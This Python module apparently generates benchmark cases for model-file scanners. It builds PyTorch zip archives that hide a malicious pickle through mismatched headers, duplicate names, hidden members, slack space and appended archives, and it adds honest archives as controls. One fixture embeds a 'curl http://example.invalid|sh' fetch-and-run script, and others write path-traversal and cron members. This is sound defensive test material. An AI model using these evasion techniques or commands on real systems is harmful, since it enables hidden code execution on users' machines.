"""Zip files whose headers, names, sums and surroundings disagree with what a loader reads."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.corpus.families.torch import RUN, state_dict, storages
from bench.corpus.unit import Family, Unit
from bench.corpus.writers import binaries, media, npy, safetensors, zips
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.zips import Member

ZIP = Family("zip_truth", "torch.load, zipfile")
EVIL = op.pickle2(RUN)
SAFE = op.pickle2(state_dict())


def units(rng: random.Random) -> Iterator[Unit]:
    def rest(root: str = "archive") -> list[Member]:
        more = [Member(f"{root}/{name}", body) for name, body in storages(rng).items()]
        return [*more, Member(f"{root}/version", b"3\n")]

    def evil(**lies: object) -> Member:
        return Member("archive/data.pkl", EVIL, **lies)  # type: ignore[arg-type]

    def bad(technique: str, variant: str, members: list[Member], **around: object) -> Unit:
        body = zips.archive(members, **around)  # type: ignore[arg-type]
        return ZIP.bad(technique, variant, {"pytorch_model.bin": body})

    safe = Member("archive/data.pkl", SAFE)
    yield bad("flag-bits", "encrypted-bit", [evil(flags=1), *rest()])
    yield bad("flag-bits", "strong-encryption-bit", [evil(flags=0x40), *rest()])
    yield bad("flag-bits", "central-only", [evil(flags=1, local_flags=0), *rest()])
    yield bad("flag-bits", "local-only", [evil(local_flags=1), *rest()])
    yield bad("flag-bits", "patched-data-bit", [evil(flags=0x20), *rest()])
    yield bad("wrong-crc", "zero", [evil(crc=0), *rest()])
    yield bad(
        "wrong-crc", "inverted-deflated", [evil(crc=0xFFFFFFFF, method=zips.DEFLATED), *rest()]
    )
    yield bad("name-mismatch", "local-other", [evil(local_name="archive/data.txt"), *rest()])
    yield bad("name-mismatch", "local-longer", [evil(local_name="archive/data.pkl.bak"), *rest()])
    yield bad("name-mismatch", "local-empty", [evil(local_name=""), *rest()])
    yield bad("duplicate", "evil-last", [safe, evil(), *rest()])
    yield bad("duplicate", "evil-first", [evil(), safe, *rest()])
    yield bad("duplicate", "case", [safe, Member("archive/DATA.PKL", EVIL), *rest()])
    yield bad("duplicate", "backslash", [safe, Member("archive\\data.pkl", EVIL), *rest()])
    yield bad("duplicate", "dot-segment", [safe, Member("archive/./data.pkl", EVIL), *rest()])
    yield bad("duplicate", "two-roots", [safe, Member("other/data.pkl", EVIL), *rest()])
    yield bad(
        "hidden-member",
        "not-in-directory",
        [safe, Member("archive/hook.pkl", EVIL, hidden=True), *rest()],
    )
    yield bad(
        "hidden-member", "first", [Member("archive/data.pkl", EVIL, hidden=True), safe, *rest()]
    )
    yield bad("slack", "gap-pickle", [safe, *rest()], gap=EVIL)
    yield bad("slack", "after-elf", [safe, *rest()], after=binaries.elf(b"x"))
    yield bad(
        "slack",
        "before-script",
        [safe, *rest()],
        before=b"#!/bin/sh\ncurl http://example.invalid|sh\n",
    )
    yield bad("slack", "comment-pickle", [safe, *rest()], comment=EVIL)
    yield bad("prepended", "pickle", [safe, *rest()], before=EVIL)
    yield bad("prepended", "unshifted", [evil(), *rest()], before=b"\0" * 64, shift=False)
    yield bad("size-lies", "smaller", [evil(size=4, method=zips.DEFLATED), *rest()])
    yield bad("size-lies", "count-zero", [evil(), *rest()], count=1)
    yield bad(
        "method",
        "local-stored-central-deflate",
        [evil(method=zips.DEFLATED, local_method=0), *rest()],
    )
    yield bad("method", "unknown", [evil(method=0, local_method=97), *rest()])
    yield bad(
        "method",
        "central-unknown",
        [safe, Member("archive/hook.pkl", EVIL, method=255, packed=EVIL), *rest()],
    )
    yield bad("extension", "data-descriptor", [evil(flags=8, crc=0, size=0), *rest()])
    yield bad(
        "hidden-member",
        "between-offsets",
        [safe, Member("x", EVIL, hidden=True), Member("y", EVIL, hidden=True), *rest()],
    )
    yield bad("member-name", "nul", [Member("archive/data.pkl\0.txt", EVIL), *rest()])
    yield bad(
        "member-name", "absolute", [evil(), Member("/etc/cron.d/model", b"* * * * * root true\n")]
    )
    yield bad("member-name", "parent", [evil(), Member("archive/../../x.py", b"import os\n")])
    yield bad(
        "two-archives",
        "second-evil",
        [evil(), *rest()],
        before=zips.pack({"archive/data.pkl": SAFE}),
    )
    outer = zips.archive(
        [safe, *rest()], after=zips.pack({"archive/data.pkl": EVIL, "archive/version": b"3"})
    )
    yield ZIP.bad("two-archives", "appended", {"pytorch_model.bin": outer})
    plain = Member("model.safetensors", safetensors.weights(rng, {"w": (4, 4)}))
    yield ZIP.bad(
        "extension",
        "zip-named-bin-safe-inside",
        {"x.bin": zips.archive([plain, Member("x.pkl", EVIL)])},
    )
    yield from _honest(rng)


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, name: str, members: list[Member], **around: object) -> Unit:
        return ZIP.good("plain", variant, {name: zips.archive(members, **around)})  # type: ignore[arg-type]

    text = [Member("README.md", b"# Model\n", zips.DEFLATED), Member("LICENSE", b"Apache-2.0\n")]
    yield good("texts", "model.zip", text)
    yield good(
        "folders", "model.zip", [Member("model/", b""), Member("model/config.json", b"{}\n")]
    )
    yield good("utf8-names", "daten.zip", [Member("größe.txt", b"1\n", flags=0x800)])
    yield good("comment", "release.zip", text, comment=b"built by the release job")
    weights = safetensors.weights(rng, {"w": (8, 8)})
    yield good("weights", "bundle.zip", [Member("model.safetensors", weights), *text])
    arrays = [Member(f"arr_{i}.npy", npy.array("<f4", (4,), rng.randbytes(16))) for i in range(3)]
    yield good("arrays", "weights.npz", arrays)
    pictures = [Member(f"images/{i}.png", media.png(rng)) for i in range(6)]
    yield good("pictures", "images.zip", pictures)
    yield good("modes", "scripts.zip", [Member("train.py", b"import torch\n", mode=0o100755)])
    yield good("empty", "empty.zip", [])
    inner = zips.pack({"a.txt": b"a", "b.txt": b"b"})
    yield good("nested", "nested.zip", [Member("inner.zip", inner), *text])
    extra = [Member("a.csv", b"a,b\n1,2\n", zips.DEFLATED, extra=b"UT\x05\0\x03\0\0\0\0")]
    yield good("extra-fields", "data.zip", extra)
    yield good(
        "many", "labels.zip", [Member(f"labels/{i:05}.txt", b"0 0.5 0.5 1 1\n") for i in range(400)]
    )
    table = [Member("train.csv", media.csv(rng).encode(), zips.DEFLATED)]
    yield good("table", "dataset.zip", table)
    twins = [Member("a/config.json", b"{}"), Member("b/config.json", b"{}")]
    yield good("same-base-name", "twins.zip", twins)
